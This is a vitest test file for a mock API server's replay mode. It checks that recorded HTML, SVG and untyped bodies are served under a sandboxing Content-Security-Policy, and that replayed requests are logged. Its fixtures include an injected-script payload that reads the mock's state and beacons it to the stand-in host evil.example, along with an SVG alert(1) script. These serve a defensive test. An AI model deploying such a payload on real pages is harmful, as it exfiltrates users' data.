import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { recorder } from "../adapters/node/recordingDir.ts";
import { startServer, type RunningServer } from "../adapters/node/startServer.ts";
import type { LoggedRequest } from "../context/requestLog.ts";
import { loadDefaultUniverse } from "../app/loadDefaultUniverse.ts";
import { inlineSolverRunner } from "../services/optimize/inlineSolverRunner.ts";
import { exchangeKey, type ExchangeRequest, type RecordedExchange } from "./RecordedExchange.ts";

const universe = loadDefaultUniverse();
const PAGE =
  "<!doctype html><script>fetch('/__mock/state').then((r) => r.text()).then((t) => navigator.sendBeacon('https://evil.example', t))</script>";

function recorded(request: ExchangeRequest, response: RecordedExchange["response"]): RecordedExchange {
  return {
    key: exchangeKey(request),
    request: { method: request.method, path: request.path, query: request.query, authorized: request.authorized },
    response,
    recordedAt: "2025-06-01T12:00:00.000Z",
  };
}
const get = (path: string): ExchangeRequest => ({ method: "GET", path, query: [], body: "", authorized: false });

let dir: string;
let server: RunningServer;
const lines: string[] = [];

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "thematic-replay-"));
  const record = recorder(dir);
  record(
    recorded(get("/v1/files/page"), {
      status: 200,
      contentType: "text/html; charset=utf-8",
      bodyBase64: Buffer.from(PAGE).toString("base64"),
    }),
  );
  record(
    recorded(get("/v1/files/drawing"), {
      status: 200,
      contentType: "image/svg+xml",
      bodyBase64: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>').toString(
        "base64",
      ),
    }),
  );
  record(
    recorded(get("/v1/files/untyped"), {
      status: 200,
      contentType: null,
      bodyBase64: Buffer.from(PAGE).toString("base64"),
    }),
  );
  record(
    recorded(get("/v1/files/factsheet"), {
      status: 200,
      contentType: "application/pdf",
      bodyBase64: Buffer.from("%PDF-1.7\n").toString("base64"),
    }),
  );
  record(recorded(get("/v1/health"), { status: 200, contentType: "application/json", json: { status: "replayed" } }));
  record(recorded(get("/v1/files/gone"), { status: 204, contentType: null }));
  server = await startServer({
    port: 0,
    universe,
    quiet: false,
    log: (line) => lines.push(line),
    solver: inlineSolverRunner,
    replayDir: dir,
  });
});
afterAll(async () => {
  await server.close();
  rmSync(dir, { recursive: true, force: true });
});

describe("--replay", () => {
  it("serves a recorded page, drawing or untyped body sandboxed (no script on the mock's origin); JSON and PDF as recorded", async () => {
    for (const path of ["/v1/files/page", "/v1/files/drawing", "/v1/files/untyped"]) {
      const response = await fetch(`${server.url}${path}`);
      expect(response.status, path).toBe(200);
      expect(response.headers.get("content-security-policy"), path).toBe("sandbox; default-src 'none'");
      expect(response.headers.get("x-content-type-options"), path).toBe("nosniff");
      await response.arrayBuffer();
    }
    const page = await fetch(`${server.url}/v1/files/page`);
    expect(page.headers.get("content-type")).toBe("text/html; charset=utf-8");
    expect(await page.text()).toBe(PAGE);

    const health = await fetch(`${server.url}/v1/health`);
    expect(health.headers.get("content-security-policy")).toBeNull();
    expect(await health.json()).toEqual({ status: "replayed" });
    const pdf = await fetch(`${server.url}/v1/files/factsheet`);
    expect(pdf.headers.get("content-security-policy")).toBeNull();
    expect(await pdf.text()).toBe("%PDF-1.7\n");
    const gone = await fetch(`${server.url}/v1/files/gone`);
    expect(gone.status).toBe(204);
  });

  it("marks replayed answers in the request log (text lines and GET /__mock/requests), and only those", async () => {
    const after = server.ctx.requests.latestSeq();
    lines.length = 0;
    await (await fetch(`${server.url}/v1/health`)).arrayBuffer();
    await (await fetch(`${server.url}/v1/benchmarks`)).arrayBuffer(); // not recorded: the mock answers
    const { requests } = (await (await fetch(`${server.url}/__mock/requests?after=${after}`)).json()) as {
      requests: LoggedRequest[];
    };
    expect(requests.map((r) => [r.path, r.replayed])).toEqual([
      ["/v1/health", true],
      ["/v1/benchmarks", undefined],
    ]);
    expect(lines.filter((l) => l.startsWith("GET /v1/"))).toEqual([
      expect.stringMatching(/^GET \/v1\/health 200 \d+ms replayed$/),
      expect.stringMatching(/^GET \/v1\/benchmarks 401 \d+ms$/),
    ]);
  });
});
